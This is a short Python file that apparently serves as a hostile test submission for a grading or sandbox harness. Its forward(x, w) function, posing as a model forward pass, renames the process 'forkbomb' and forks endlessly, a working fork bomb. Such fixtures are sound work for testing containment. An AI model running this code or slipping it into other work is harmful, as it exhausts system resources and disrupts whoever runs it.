"""Hostile: forward() forks without end; every child forks too, named 'forkbomb' to be found later."""
import ctypes
import os

from _correct import cost, gradient, gradient_descent, sgd


def forward(x, w):
    ctypes.CDLL(None).prctl(15, b"forkbomb", 0, 0, 0)  # PR_SET_NAME
    while True:
        try:
            os.fork()
        except OSError:
            pass
